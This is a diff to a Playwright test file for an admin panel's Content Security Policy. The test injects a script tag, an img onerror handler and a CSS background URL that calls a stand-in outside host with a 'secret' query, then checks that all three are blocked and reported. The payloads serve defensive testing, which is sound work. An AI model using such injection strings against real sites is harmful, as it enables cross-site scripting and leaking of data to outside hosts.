@@ -64,19 +64,27 @@ test('the panel works within its content policy, and code in a post is changed w
 test.describe(() => {
   test.use({ expectedErrors: [/Content Security Policy|status of 404/] })
 
-  test('a script that somebody smuggled into a page of the panel does not run', main, async ({ page }) => {
-    const violations = await violationsOn(page)
-    await signInBeforehand(page, sharedProduct())
-    await page.route('**/admin/account', async (route) => {
-      const answer = await route.fetch()
-      const smuggled = `<script>window.smuggled = 1</script><img src="/x" onerror="window.smuggled = 2">`
-      const body = (await answer.text()).replace('</body>', `${smuggled}</body>`)
-      await route.fulfill({ response: answer, body })
-    })
-    await page.goto('/admin/account')
-    await expect.poll(violations).toHaveLength(2)
-    expect(await page.evaluate('window.smuggled')).toBeUndefined()
-  })
+  test(
+    'a script that somebody smuggled into a page of the panel does not run, and no style of theirs asks for a picture',
+    main,
+    async ({ page }) => {
+      const violations = await violationsOn(page)
+      await signInBeforehand(page, sharedProduct())
+      await page.route('**/admin/account', async (route) => {
+        const answer = await route.fetch()
+        const scripts = `<script>window.smuggled = 1</script><img src="/x" onerror="window.smuggled = 2">`
+        const style = `<p style="background: url(https://elsewhere.example/?secret)">Words</p>`
+        const body = (await answer.text()).replace('</body>', `${scripts}${style}</body>`)
+        await route.fulfill({ response: answer, body })
+      })
+      await page.goto('/admin/account')
+      await expect.poll(violations).toHaveLength(3)
+      expect(
+        (await violations()).filter((each) => each.startsWith('img-src https://elsewhere.example')),
+      ).toHaveLength(1)
+      expect(await page.evaluate('window.smuggled')).toBeUndefined()
+    },
+  )
 })
 
 async function postWithCode(request: APIRequestContext): Promise<{ id: string; slug: string }> {
